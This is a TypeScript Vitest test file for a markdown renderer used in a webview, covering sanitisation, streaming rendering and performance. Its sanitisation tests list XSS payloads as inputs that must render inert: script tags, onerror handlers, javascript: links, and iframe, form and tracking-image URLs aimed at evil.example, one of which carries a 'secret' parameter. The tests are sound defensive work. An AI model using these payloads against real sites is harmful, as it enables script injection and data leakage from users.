// @vitest-environment jsdom
import { beforeAll, describe, expect, test } from 'vitest';
import { StreamingMarkdown, renderMarkdown, settledEnd } from '../../src/webview/markdown';

beforeAll(() => {
  // jsdom has no animation frames; a macrotask stands in for one.
  globalThis.requestAnimationFrame = (callback: FrameRequestCallback) =>
    setTimeout(() => callback(0), 0) as unknown as number;
  globalThis.cancelAnimationFrame = (id: number) => clearTimeout(id);
});

const frame = () => new Promise((resolve) => setTimeout(resolve, 1));

describe('sanitised markdown', () => {
  test.each([
    ['<img src=x onerror="alert(1)">', /onerror/],
    ['<script>alert(1)</script>', /<script/],
    ['[click](javascript:alert(1))', /javascript:/],
    ['<a href="javascript:alert(1)">x</a>', /javascript:/],
    ['<iframe src="https://evil.example"></iframe>', /<iframe/],
    ['<div style="position:fixed">x</div>', /style=/],
    ['<svg><script>alert(1)</script></svg>', /<script/],
    ['<form action="https://evil.example"><input></form>', /<form|<input/],
    ['![tracker](https://evil.example/collect?secret=1)', /<img/],
  ])('%s renders inert', (source, forbidden) => {
    const html = renderMarkdown(source);
    expect(html).not.toMatch(forbidden);
    const host = document.createElement('div');
    host.innerHTML = html;
    expect(host.querySelectorAll('[onerror],[onclick],script,iframe').length).toBe(0);
  });

  test('markdown renders: emphasis, lists, tables, links', () => {
    const html = renderMarkdown(
      '**bold** and `code`\n\n- a\n- b\n\n| x | y |\n|---|---|\n| 1 | 2 |\n\n[site](https://example.com)',
    );
    expect(html).toContain('<strong>bold</strong>');
    expect(html).toContain('<code>code</code>');
    expect(html).toContain('<li>a</li>');
    expect(html).toContain('<td>1</td>');
    expect(html).toContain('<a href="https://example.com">site</a>');
  });

  test('code blocks are highlighted by language, and unknown languages are escaped', () => {
    expect(renderMarkdown('```ts\nconst x: number = 1;\n```')).toContain('<span class="hljs-keyword">const</span>');
    const unknown = renderMarkdown('```brainfuck\n<b>not html</b>\n```');
    expect(unknown).toContain('&lt;b&gt;not html&lt;/b&gt;');
  });
});

describe('settledEnd', () => {
  test('ends after the last blank line outside a fence', () => {
    expect(settledEnd('one\n\ntwo\n\nthr', 0)).toBe('one\n\ntwo\n\n'.length);
    expect(settledEnd('one\n\n```\ncode\n\nmore code\n', 0)).toBe('one\n\n'.length);
    expect(settledEnd('```\ncode\n```\n\nafter', 0)).toBe('```\ncode\n```\n\n'.length);
  });
});

describe('StreamingMarkdown', () => {
  function stream(): { container: HTMLElement; md: StreamingMarkdown } {
    const container = document.createElement('div');
    return { container, md: new StreamingMarkdown(container, () => {}) };
  }

  test('any split of the text gives the same final rendering as rendering it whole', async () => {
    const source =
      '# Title\n\nSome *text* here.\n\n```js\nconst a = 1;\n\nconst b = 2;\n```\n\n- item\n- item two\n\nEnd.';
    const { container, md } = stream();
    for (let i = 0; i < source.length; i += 7) {
      md.append(source.slice(i, i + 7));
      await frame();
    }
    md.finish();
    const whole = document.createElement('div');
    whole.innerHTML = renderMarkdown(source);
    expect(container.textContent).toBe(whole.textContent);
    expect(container.querySelectorAll('pre code .hljs-keyword').length).toBeGreaterThan(0);
  });

  test('a 1 MB answer streams with work proportional to its size, not its square', async () => {
    const paragraph = 'Lorem ipsum dolor sit amet, consectetur adipiscing elit. '.repeat(8) + '\n\n';
    const code = '```py\n' + 'print("hello world")\n'.repeat(200) + '```\n\n';
    const block = paragraph.repeat(4) + code;
    const source = block.repeat(Math.ceil(1_000_000 / block.length));
    const { container, md } = stream();
    for (let i = 0; i < source.length; i += 4096) {
      md.append(source.slice(i, i + 4096));
      await frame();
    }
    md.finish();
    expect(source.length).toBeGreaterThan(1_000_000);
    expect(container.textContent.length).toBeGreaterThan(900_000);
    // No frame re-renders the whole answer: the settled part is rendered once,
    // so all the markdown rendered adds up to a small multiple of the answer.
    expect(container.querySelectorAll('.md-block').length).toBeGreaterThan(100);
    expect(md.renderedChars).toBeLessThan(3 * source.length);
  });
});
